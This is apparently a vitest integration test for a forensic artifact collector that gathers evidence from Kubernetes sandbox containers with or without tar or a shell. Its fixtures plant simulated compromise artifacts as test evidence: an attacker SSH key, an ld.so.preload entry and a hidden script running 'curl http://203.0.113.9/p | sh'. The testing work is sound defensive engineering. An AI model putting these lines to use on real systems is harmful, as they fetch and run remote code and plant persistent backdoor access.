/**
 * Strategy selection on real sandbox containers: no tar (framed head/cat), shell builtins only,
 * no shell at all (API state only, needs an ephemeral container).
 */
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { ArtifactCollector, type TargetReport } from '../../src/collect/index.js';
import type { SandboxEntry } from '../../src/testing/sandbox/index.js';
import { skipWithoutPeer } from '../support/peers.js';
import {
  addSandboxPod,
  bundleHas,
  bundleJson,
  bundleText,
  collectedFile,
  type Env,
  filesIndex,
  sandboxMissing,
  startEnv,
} from './support.js';

const skip = skipWithoutPeer('bwrap', sandboxMissing());

const AUTH_KEYS = 'ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABAQPlanted attacker@evil\n';
const planted: Record<string, SandboxEntry> = {
  '/root/.ssh/authorized_keys': { content: AUTH_KEYS },
  '/etc/ld.so.preload': { content: '/lib/evil.so\n' },
  '/tmp/.hidden/payload.sh': { content: '#!/bin/sh\ncurl http://203.0.113.9/p | sh\n', executable: true },
  '/tmp/.hidden/blob.bin': { content: Buffer.from([0, 1, 2, 0xff, 0, 10, 13, 0]) },
};

describe.skipIf(skip)('collector strategies', () => {
  let env: Env;
  beforeAll(async () => {
    env = await startEnv();
  }, 60_000);
  afterAll(async () => {
    await env?.close();
  });

  async function acquire(options: Parameters<typeof addSandboxPod>[1]): Promise<TargetReport> {
    const t = await addSandboxPod(env, options, {
      command: options.preset === 'busybox' ? ['sleep', '86400'] : undefined,
    });
    const collector = new ArtifactCollector({ sink: env.sink, profiles: ['triage'] });
    const report = await collector.acquire({ kube: env.kube, ...t });
    return report.targets[0] as TargetReport;
  }

  it('a container without tar: framed head/cat streams, binary-safe', async () => {
    const tools: Record<string, SandboxEntry> = {};
    for (const t of ['cat', 'head', 'find', 'stat', 'readlink', 'date', 'wc'])
      tools[`/bin/${t}`] = { type: 'binary', binary: 'busybox' };
    const r = await acquire({ preset: 'shell-only', files: { ...tools, ...planted } });
    expect(r.finalized).toBe(true);
    expect(r.strategy.content).toBe('framed');
    expect(r.strategy.notes.join(' ')).toContain('no working tar');
    const loc = r.location as string;
    expect((await collectedFile(loc, '/root/.ssh/authorized_keys'))?.toString()).toBe(AUTH_KEYS);
    expect(await collectedFile(loc, '/tmp/.hidden/blob.bin')).toEqual(
      Buffer.from([0, 1, 2, 0xff, 0, 10, 13, 0]),
    );
    expect((await collectedFile(loc, '/tmp/.hidden/payload.sh'))?.toString()).toContain('203.0.113.9');
    expect(bundleHas(loc, 'containers/app/proc/processes.json')).toBe(true);
  });

  it('a container with only a shell: builtins, degraded and said so', async () => {
    const r = await acquire({ preset: 'shell-only', files: planted });
    expect(r.finalized).toBe(true);
    expect(r.strategy.content).toBe('builtins');
    expect(r.strategy.degraded).toBe(true);
    expect(r.status).toBe('partial');
    expect(r.reasons.join('\n')).toMatch(/degraded: shell builtins only/);
    const loc = r.location as string;
    expect((await collectedFile(loc, '/root/.ssh/authorized_keys'))?.toString()).toBe(AUTH_KEYS);
    expect((await collectedFile(loc, '/etc/ld.so.preload'))?.toString()).toBe('/lib/evil.so\n');
    const row = filesIndex(loc).find((x) => x.path === '/tmp/.hidden/payload.sh');
    expect(row?.reason).toContain('text only');
    const probe = bundleJson<{ strategy: { notes: string[] } }>(loc, 'containers/app/probe.json');
    expect(probe.strategy.notes.join(' ')).toContain('NUL bytes');
    const custody = bundleJson<{ notes: string }>(loc, 'custody.json');
    expect(custody.notes).toContain('degraded');
    const procs = bundleJson<{ processes: { cmdline?: string }[] }>(
      loc,
      'containers/app/proc/processes.json',
    ).processes;
    expect(procs.length).toBeGreaterThan(0);
  });

  it('a container with no shell: API state only and the reason', async () => {
    const r = await acquire({ preset: 'none', files: planted });
    expect(r.finalized).toBe(true);
    expect(r.strategy.content).toBe('none');
    expect(r.needsEphemeralContainer).toBe(true);
    expect(r.status).toBe('partial');
    expect(r.reasons.join('\n')).toContain('needs ephemeral container');
    const loc = r.location as string;
    expect(bundleJson<{ metadata: { name: string } }>(loc, 'pod/pod.json').metadata.name).toBe(r.target.pod);
    expect(bundleHas(loc, 'containers/app/files/index.json')).toBe(false);
    const log = bundleText(loc, 'acquisition.log');
    expect(log).toContain('"step":"probe"');
    const manifest = bundleJson<{ artifacts: { path: string; status: string; reason?: string }[] }>(
      loc,
      'manifest.json',
    );
    const skipped = manifest.artifacts.find((a) => a.path === 'containers/app/exec-profiles');
    expect(skipped?.status).toBe('skipped');
    expect(skipped?.reason).toContain('needs ephemeral container');
  });
});
